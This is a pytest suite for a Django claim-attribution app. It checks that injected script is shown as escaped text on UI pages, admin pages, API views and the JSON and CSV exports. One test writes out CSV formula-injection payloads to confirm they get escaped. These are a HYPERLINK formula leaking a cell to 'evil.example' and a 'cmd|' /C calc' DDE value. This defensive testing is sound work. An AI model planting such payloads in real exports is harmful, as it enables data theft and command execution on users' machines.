"""Script written into an article, a quote, a speaker's or an outlet's name is shown
as text on every page, in the admin and in the exports; it never becomes markup."""

import csv
import io
import json

import pytest
from django.contrib import admin
from django.urls import NoReverseMatch, reverse

from attribution import services
from tests.factories import ArticleFactory, ClaimFactory, SpeakerFactory
from tests.hardening.xss import RAW, XSS

pytestmark = pytest.mark.django_db


def _assert_shown_as_text(url: str, html: str) -> None:
    for raw in RAW:
        assert raw not in html, f"{url} writes the payload out as markup"
    assert "window.__xss" in html, f"{url} does not show the payload at all"


def _ui_urls(p) -> dict[str, str]:
    """Every page of the UI with its arguments, so that a new page is covered."""
    from attribution import alert_services
    from attribution.web.urls import urlpatterns

    ids = {
        "claims": p["claim"].pk,
        "flags": p["flag"].pk,
        "articles": p["article"].pk,
        "statements": p["statement"].pk,
        "speakers": p["speaker"].slug,
        "outlets": p["outlet"].slug,
        "feeds": p["feed"].pk,
        "watchlists": p["watchlist"].pk,
    }
    urls = {}
    for pattern in urlpatterns:
        route = str(pattern.pattern)
        kwargs = {}
        for kind in ("pk", "slug", "other"):
            if f":{kind}>" in route:
                kwargs[kind] = ids[route.split("/", 1)[0]]
        if ":token>" in route:  # a watchlist's Atom feed, opened by its secret
            kwargs["token"] = alert_services.watchlist_feed_token(
                user=p["user"], watchlist_id=p["watchlist"].pk
            )
        urls[pattern.name] = reverse(f"web:{pattern.name}", kwargs=kwargs)
    return urls


NO_DATA = {"login", "logout", "article-create"}  # forms with nothing stored in them


def test_every_ui_page_shows_injected_script_as_text(client, poisoned):
    client.force_login(poisoned["user"])
    urls = _ui_urls(poisoned)
    visited = []
    extra = {
        "search": reverse("web:claim-list") + "?q=script+window",
        "review-one-article": reverse("web:review-queue")
        + f"?article={poisoned['article'].pk}",
    }

    for name, url in [*urls.items(), *extra.items()]:
        response = client.get(url)
        if response.status_code == 405:  # a write: POST only
            continue
        assert response.status_code == 200, url
        if response["Content-Type"] == "application/json":  # suggestions
            assert response["X-Content-Type-Options"] == "nosniff", url
            visited.append(name)
            continue
        if name not in NO_DATA:
            _assert_shown_as_text(url, response.text)
        visited.append(name)

    assert {
        "claim-list",
        "claim-detail",
        "article-list",
        "article-detail",
        "article-graph",
        "speaker-list",
        "speaker-detail",
        "speaker-graph",
        "outlet-list",
        "outlet-detail",
        "contested",
        "review-queue",
        "search",
    } <= set(visited)


def test_the_failed_parse_message_is_shown_as_text(client, poisoned):
    article = poisoned["article"]
    services.article_fail_parse(article_id=article.pk, error=f"Broken by {XSS}")

    html = client.get(reverse("web:article-detail", args=[article.pk])).text

    assert "Broken by &lt;script&gt;window.__xss=1&lt;/script&gt;" in html
    _assert_shown_as_text("article-detail", html)


def test_every_admin_list_and_change_page_shows_injected_script_as_text(
    client, poisoned
):
    client.force_login(poisoned["user"])
    shown = []

    for model, model_admin in admin.site._registry.items():
        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        listing = client.get(reverse(f"{prefix}_changelist"))
        assert listing.status_code == 200, prefix
        for raw in RAW:
            assert raw not in listing.text, prefix
        obj = model_admin.get_queryset(listing.wsgi_request).first()
        if obj is None:
            continue
        for view in ("change", "history", "delete"):
            if view == "delete" and not model_admin.has_delete_permission(
                listing.wsgi_request, obj
            ):
                continue  # refused (403): the services delete, not the admin
            try:
                url = reverse(f"{prefix}_{view}", args=[obj.pk])
            except NoReverseMatch:
                continue
            page = client.get(url)
            assert page.status_code == 200, url
            _assert_shown_as_text(url, page.text)
            shown.append(f"{model._meta.model_name}:{view}")

    for model in ("article", "claim", "speaker", "outlet", "canonicalclaim"):
        assert f"{model}:change" in shown


def test_the_browsable_api_shows_injected_script_as_text(client, poisoned):
    for url in (
        reverse("api:claim-list"),
        reverse("api:article-detail", args=[poisoned["article"].pk]),
    ):
        response = client.get(url, HTTP_ACCEPT="text/html")

        assert response["Content-Type"].startswith("text/html")
        _assert_shown_as_text(url, response.text)


# Exports ---------------------------------------------------------------------------


def _body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def test_the_jsonl_export_escapes_markup_and_keeps_the_words(client, poisoned):
    response = client.get(reverse("api:export-jsonl"))
    text = _body(response)

    assert "<" not in text and ">" not in text
    assert "\\u003cscript\\u003e" in text
    claims = [json.loads(line) for line in text.splitlines()]
    assert {c["text"] for c in claims} == {f"{XSS} is safe", f"{XSS} is not safe"}
    assert claims[0]["speaker"]["name"] == f"{XSS} Smith"


def test_the_claimreview_json_ld_can_sit_inside_a_script_element(client, poisoned):
    detail = client.get(reverse("api:claim-review-detail", args=[poisoned["claim"].pk]))
    listing = client.get(reverse("api:claim-review-list"))

    for response in (detail, listing):
        text = _body(response)
        assert response["Content-Type"] == "application/json"
        assert "</" not in text and "<" not in text
        assert "\\u003c/script\\u003e" in text
    review = detail.json()
    assert review["claimReviewed"] == f"{XSS} is safe"
    assert review["itemReviewed"]["author"]["name"] == f"{XSS} Smith"
    assert review["itemReviewed"]["appearance"]["headline"] == f"{XSS} headline"
    assert review["reviewBody"] == XSS


def test_the_csv_export_is_a_download_that_keeps_the_words(client, poisoned):
    response = client.get(reverse("api:export-csv"))

    # A spreadsheet's text, not a page: the browser saves it and never sniffs it
    # as HTML, so the words stay exactly as written.
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert {r["text"] for r in rows} == {f"{XSS} is safe", f"{XSS} is not safe"}
    assert {r["speaker"] for r in rows} == {f"{XSS} Smith"}
    assert {r["via"] for r in rows} == {f"{XSS} Gazette"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_start_like_a_formula_are_escaped(client, start):
    text = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"see")'
    body = f"The mayor said {text} was wrong."
    ClaimFactory(
        article=ArticleFactory(body=body, title=f"{start}cmd|' /C calc'!A0"),
        text=text,
        speaker=SpeakerFactory(name=f"{start}SUM(1+1)"),
    )

    response = client.get(reverse("api:export-csv"))
    row = next(csv.DictReader(io.StringIO(_body(response))))

    assert row["text"] == "'" + text
    assert row["article_title"] == f"'{start}cmd|' /C calc'!A0"
    assert row["speaker"] == f"'{start}SUM(1+1)"
